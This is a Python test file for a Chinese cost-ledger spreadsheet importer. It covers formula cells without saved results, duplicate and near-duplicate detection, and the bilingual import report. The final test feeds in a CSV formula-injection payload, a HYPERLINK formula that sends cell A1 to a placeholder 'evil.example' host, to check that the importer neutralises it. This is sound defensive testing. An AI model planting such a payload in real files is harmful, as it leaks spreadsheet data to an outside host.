"""Formula cells and duplicates (issue 14, item 10): a re-export whose 摘要 became a formula without a
saved result stores nothing new; the business key decides duplicates; the report names every row.

The trial's case: a PM export rewritten by a tool that writes formulas the way openpyxl does (the
formula alone, no cached result). calamine reads such a cell as empty, the row's content changed,
and GC-2026-002 / 2026-10-05 / 人工费 / 23,854.77 was stored a second time.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import func, select

from tests.support.hostile_workbooks import cell_xml, write_sheet
from tests.support.spreadsheets import write_csv, write_xlsx
from yecai.files import import_file
from yecai.files.reader import open_file
from yecai.store.db import Store
from yecai.store.tables import Document, Record

HEADER = ["序号", "项目编码", "成本类别", "业务日期", "摘要", "金额", "供应商"]
LINK = 'HYPERLINK("https://pm.example.cn/cost/{n}","{text}")'


@dataclass(frozen=True)
class Formula:
    """A formula cell; `cached` None writes it as openpyxl does: the formula, no saved result."""

    text: str
    cached: str | None = None


def cost_rows() -> list[list[Any]]:
    day = dt.date(2026, 10, 5)
    return [
        [1, "GC-2026-001", "材料费", day, "钢筋 HRB400", 51230.5, "华东钢材"],
        [2, "GC-2026-002", "人工费", day, "十月人工（木工班）", 23854.77, "安居劳务"],
        [3, "GC-2026-002", "人工费", day, "十月人工（木工班）", 23854.77, "安居劳务"],  # two real costs
        [4, "GC-2026-002", "机械费", dt.date(2026, 10, 6), "塔吊租赁", 8800, "大力机械"],
        [5, "GC-2026-003", "分包", dt.date(2026, 10, 7), "防水分包", 120000, "雨虹防水"],
    ]


def export_with_links(path: Path, rows: list[list[Any]], *, cached: bool, column: int = 4) -> Path:
    """The same export with one column turned into HYPERLINK formulas, by hand-written sheet XML."""
    body = []
    title = ["成本台账导出"]
    lines = [title, [], HEADER]
    for row in rows:
        line = list(row)
        text = str(line[column])
        line[column] = Formula(LINK.format(n=line[0], text=text), text if cached else None)
        lines.append(line)
    for number, values in enumerate(lines, start=1):
        cells = []
        for index, value in enumerate(values):
            ref = f"{chr(ord('A') + index)}{number}"
            if isinstance(value, Formula):
                if value.cached is None:
                    cells.append(f'<c r="{ref}"><f>{escape(value.text)}</f><v></v></c>')
                else:
                    cells.append(
                        f'<c r="{ref}" t="str"><f>{escape(value.text)}</f><v>{escape(value.cached)}</v></c>'
                    )
            else:
                cells.append(cell_xml(ref, value))
        if cells:
            body.append(f'<row r="{number}">{"".join(cells)}</row>')
    return write_sheet(path, "".join(body))


def plain_export(path: Path, rows: list[list[Any]]) -> Path:
    return write_xlsx(path, [["成本台账导出"], [], HEADER, *rows])


def count(store: Store, table: Any) -> int:
    with store.transaction() as session:
        return int(session.scalar(select(func.count()).select_from(table)) or 0)


def sheet(path: Path | None, name: str) -> list[list[Any]]:
    assert path is not None
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


def test_formula_cells_without_results_are_named_and_read_by_the_streaming_reader(tmp_path: Path) -> None:
    path = export_with_links(tmp_path / "links.xlsx", cost_rows(), cached=False)
    opened = open_file(path)
    try:
        rows = list(opened.sheet(opened.sheet_names[0]).rows)
    finally:
        opened.close()
    data = [row for row in rows if row.number >= 4]
    assert [row.uncached for row in data] == [
        ((4, LINK.format(n=n, text=r[4])),) for n, r in zip(range(1, 6), cost_rows(), strict=True)
    ]
    assert all(row.cells[4] is None for row in data)  # unknown, never a made-up value
    # with their results saved, formula cells are read as those results and nothing is flagged
    cached = export_with_links(tmp_path / "cached.xlsx", cost_rows(), cached=True)
    opened = open_file(cached)
    try:
        rows = [row for row in opened.sheet(opened.sheet_names[0]).rows if row.number >= 4]
    finally:
        opened.close()
    assert [row.cells[4] for row in rows] == [r[4] for r in cost_rows()]
    assert all(row.uncached == () for row in rows)


def test_a_reexport_whose_summary_became_formulas_without_results_stores_nothing_new(
    store: Store, tmp_path: Path
) -> None:
    first = import_file(
        store, plain_export(tmp_path / "十月.xlsx", cost_rows()), kind="cost", report=tmp_path / "r1.xlsx"
    )
    assert (first.counts.imported, first.counts.duplicate) == (5, 0)
    records, documents = count(store, Record), count(store, Document)
    again = import_file(
        store,
        export_with_links(tmp_path / "十月-重新导出.xlsx", cost_rows(), cached=False),
        kind="cost",
        report=tmp_path / "r2.xlsx",
    )
    # before: the empty 摘要 changed the rows' content and every row was stored a second time
    assert (again.counts.imported, again.counts.duplicate, again.counts.held) == (0, 5, 0)
    assert (count(store, Record), count(store, Document)) == (records, documents)
    # a warning per row, naming the cell, Chinese first
    formula_warnings = [i for i in again.issues if "是公式" in i.zh]
    assert [(i.row, i.column) for i in formula_warnings] == [(n, "摘要") for n in range(4, 9)]
    assert "单元格 E5（摘要）是公式，文件中没有保存它的计算结果，已按空值读取" in formula_warnings[1].zh
    assert "cell E5 (摘要) holds a formula whose result was not saved" in formula_warnings[1].en
    # the business key matched; the differing 摘要 is said, for a person to confirm
    near = [i for i in again.issues if i.field == "business_key"]
    assert len(near) == 5
    assert "请确认" in near[1].zh
    assert "摘要：已有 十月人工（木工班），本行 （空）empty" in near[1].zh
    # the report names each row: what was imported the first time, what repeated it the second
    names = CalamineWorkbook.from_path(str(again.report)).sheet_names
    assert names[:3] == ["汇总 Summary", "已导入 Imported", "重复 Duplicates"]
    imported = sheet(first.report, "已导入 Imported")
    assert imported[0][:8] == [
        "工作表 sheet",
        "行号 row",
        "项目编码 project",
        "业务日期 date",
        "类别 category",
        "金额 amount",
        "单据键 source reference",
        "单据 document",
    ]
    by_row = {int(r[1]): r for r in imported[1:]}
    assert sorted(by_row) == [4, 5, 6, 7, 8]
    assert by_row[5][2:7] == ["GC-2026-002", "2026-10-05", "人工费 labour", 23854.77, ""]
    assert by_row[5][8] == "新单据 new record"
    with store.transaction() as session:
        ids = {
            int(n): d
            for n, d in zip(
                (r[1] for r in imported[1:]),
                session.scalars(select(Document.id).order_by(Document.id)),
                strict=True,
            )
        }
    duplicates = sheet(again.report, "重复 Duplicates")
    assert duplicates[0][7:10] == ["判定 match", "重复的单据 duplicates document", "来自 earlier import"]
    listed = {int(r[1]): r for r in duplicates[1:]}
    assert sorted(listed) == [4, 5, 6, 7, 8]
    row54 = listed[5]
    assert row54[2:6] == ["GC-2026-002", "2026-10-05", "人工费 labour", 23854.77]
    assert row54[7].startswith("业务键相同")
    assert int(row54[8]) == ids[5]  # the earlier document it repeats
    assert f"十月.xlsx · 运行 run {first.run_id} · 导出!5" == row54[9]
    assert "摘要: 十月人工（木工班） → （空）empty" in row54[10]
    # the two identical labour rows are two costs, each repeated once: not one row twice
    assert {int(listed[5][8]), int(listed[6][8])} == {ids[5], ids[6]}


def test_formula_results_that_were_saved_are_used(store: Store, tmp_path: Path) -> None:
    import_file(store, plain_export(tmp_path / "a.xlsx", cost_rows()), kind="cost")
    again = import_file(store, export_with_links(tmp_path / "b.xlsx", cost_rows(), cached=True), kind="cost")
    assert (again.counts.imported, again.counts.duplicate, again.counts.warnings) == (0, 5, 0)
    assert not [i for i in again.issues if "公式" in i.zh]


def test_a_formula_without_result_in_a_field_that_identifies_the_row_rejects_it(
    store: Store, tmp_path: Path
) -> None:
    path = export_with_links(tmp_path / "amounts.xlsx", cost_rows(), cached=False, column=5)
    result = import_file(store, path, kind="cost")
    assert (result.counts.imported, result.counts.rejected) == (0, 5)
    problem = next(i for i in result.issues if i.row == 5)
    assert problem.column == "金额"
    assert problem.field == "amount"
    assert "单元格 F5（金额）是公式，但文件中没有保存它的计算结果，无法读取它的值" in problem.zh
    assert "cell F5 (金额) holds a formula whose result was not saved" in problem.en


def test_a_keyed_row_that_differs_only_in_words_is_a_duplicate_not_a_new_version(
    store: Store, tmp_path: Path
) -> None:
    header = ["单据编号", "项目编码", "成本类别", "业务日期", "摘要", "金额"]
    row = ["CB-54", "GC-2026-002", "人工费", dt.date(2026, 10, 5), "十月人工", 23854.77]
    import_file(store, write_xlsx(tmp_path / "a.xlsx", [header, row]), kind="cost")
    changed = write_xlsx(tmp_path / "b.xlsx", [header, [*row[:4], "十月人工（见链接）", row[5]]])
    result = import_file(store, changed, kind="cost", report=tmp_path / "r.xlsx")
    assert (result.counts.imported, result.counts.duplicate) == (0, 1)
    with store.transaction() as session:
        assert session.scalar(select(func.count()).where(Document.source_key == "CB-54")) == 1
    listed = sheet(result.report, "重复 Duplicates")[1]
    assert listed[6] == "CB-54"
    assert listed[7].startswith("只有摘要等说明不同")
    # a real change of a figure is a new version of the same document, as before
    moved = write_xlsx(tmp_path / "c.xlsx", [header, [*row[:5], 23854.78]])
    assert import_file(store, moved, kind="cost").counts.imported == 1
    with store.transaction() as session:
        assert session.scalar(select(func.count()).where(Document.source_key == "CB-54")) == 2


def test_near_duplicates_are_listed_for_a_person_to_confirm_not_imported_twice(
    store: Store, tmp_path: Path
) -> None:
    first = import_file(store, plain_export(tmp_path / "a.xlsx", cost_rows()), kind="cost")
    rows = cost_rows()
    rows[1][5] = 23854.8  # shown with one decimal by the re-export: the same cost, rounded
    rows[0][6] = "华东钢材有限公司"  # another non-key field changed: the same business key
    rows.append([6, "GC-2026-003", "分包", dt.date(2026, 10, 7), "新的分包", 5000, "某公司"])  # really new
    result = import_file(
        store, plain_export(tmp_path / "b.xlsx", rows), kind="cost", report=tmp_path / "r.xlsx"
    )
    assert (result.counts.imported, result.counts.duplicate, result.counts.held) == (1, 4, 1)
    assert result.counts.rows == 6
    held = next(i for i in result.issues if i.field == "rounding")
    assert held.row == 5
    assert "未导入，请确认" in held.zh
    assert "单据编号" in held.zh
    assert "not imported" in held.en
    supplier = next(i for i in result.issues if i.field == "business_key")
    assert "供应商：已有 华东钢材，本行 华东钢材有限公司" in supplier.zh
    with store.transaction() as session:
        amounts = session.scalars(select(Document.amount).where(Document.project_code == "GC-2026-002")).all()
    assert sorted(amounts) == [Decimal("8800.00"), Decimal("23854.77"), Decimal("23854.77")]
    listed = {int(r[1]): r for r in sheet(result.report, "重复 Duplicates")[1:]}
    assert listed[5][7].startswith("金额仅差舍入")
    assert listed[5][5] == 23854.8
    summary = {r[0]: r[1] for r in sheet(result.report, "汇总 Summary") if r and r[0]}
    assert summary["待确认（近似重复，未导入）held near-duplicates (not imported)"] == 1
    assert first.run_id is not None


@pytest.mark.parametrize(
    ("a", "b", "near"),
    [
        ("23854.77", "23854.8", True),
        ("23854.77", "23855", True),
        ("23854.77", "23854.76", True),
        ("23854.77", "23854.77", False),
        ("100.00", "100.50", False),
        ("23854.77", "23850", False),
    ],
)
def test_amounts_apart_by_rounding(a: str, b: str, near: bool) -> None:
    from yecai.files.dedup import near_amounts  # here: the other tests of this file run without the fix

    assert near_amounts(Decimal(a), Decimal(b)) is near
    assert near_amounts(Decimal(b), Decimal(a)) is near


def test_csv_text_starting_with_equals_is_warned_about_and_never_a_formula_in_the_report(
    store: Store, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    rows = [
        ["项目编码", "成本类别", "业务日期", "摘要", "金额"],
        ["GC-2026-001", "人工费", "2026-10-05", evil, "100"],
        ["GC-2026-001", "材料费", "2026-10-05", "水泥", "=1+1"],
    ]
    path = write_csv(tmp_path / "成本.csv", rows)
    result = import_file(store, path, kind="cost", report=tmp_path / "r.xlsx")
    warned = [i for i in result.issues if "“=”开头" in i.zh]
    assert [(i.row, i.column) for i in warned] == [(2, "摘要"), (3, "金额")]
    assert "单元格 D2（摘要）" in warned[0].zh
    assert "CSV/formula injection" in warned[0].en
    assert result.counts.imported == 1  # the text in 摘要 is data; "=1+1" is no amount
    # no workbook we write holds a formula, and the text stays inert text
    with zipfile.ZipFile(result.report) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name), name
    texts = [
        cell for name in ("警告 Warnings", "错误 Rejected") for r in sheet(result.report, name) for cell in r
    ]
    assert "'" + evil in texts
    assert evil not in texts
